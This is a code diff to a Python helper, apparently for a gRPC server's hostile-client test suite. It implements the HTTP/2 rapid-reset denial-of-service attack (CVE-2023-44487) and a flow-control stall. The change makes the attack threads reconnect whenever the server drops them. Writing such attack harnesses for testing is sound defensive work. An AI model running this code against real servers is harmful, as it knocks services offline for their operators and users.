@@ -2,7 +2,8 @@
 library: it speaks just enough HTTP/2 (the preface, SETTINGS and their ACK, PING answers;
 header fields as HPACK literals without indexing).
 - attack(): rapid reset (CVE-2023-44487): on each connection, streams opened with HEADERS and
-  a DATA frame carrying a gRPC message, then reset at once (RST_STREAM CANCEL), in a loop;
+  a DATA frame carrying a gRPC message, then reset at once (RST_STREAM CANCEL), in a loop,
+  connecting again when the server closes the connection;
 - Attacker.open(): one call whose replies are never taken: the client never grants more
   flow-control window than HTTP/2's first 64 KiB, so the server's writes block.
 Used by hostile_grpc_test.py."""
@@ -107,12 +108,27 @@ class Attacker:
 
 
 def attack(address, path, message, connections, seconds):
-    """Runs `connections` attackers for `seconds`; returns the streams opened in all."""
+    """Runs `connections` attackers for `seconds`, each connecting again whenever the server
+    closes its connection; returns (streams opened, connections made) in all."""
     deadline = time.monotonic() + seconds
-    attackers = [Attacker(address, path, message) for _ in range(connections)]
-    threads = [threading.Thread(target=a.run, args=(deadline,)) for a in attackers]
+    totals = []
+
+    def one():
+        streams = made = 0
+        while time.monotonic() < deadline:
+            try:
+                a = Attacker(address, path, message)
+            except OSError:
+                time.sleep(0.01)
+                continue
+            made += 1
+            a.run(deadline)
+            streams += a.streams
+        totals.append((streams, made))
+
+    threads = [threading.Thread(target=one) for _ in range(connections)]
     for t in threads:
         t.start()
     for t in threads:
         t.join()
-    return sum(a.streams for a in attackers)
+    return sum(s for s, _ in totals), sum(m for _, m in totals)
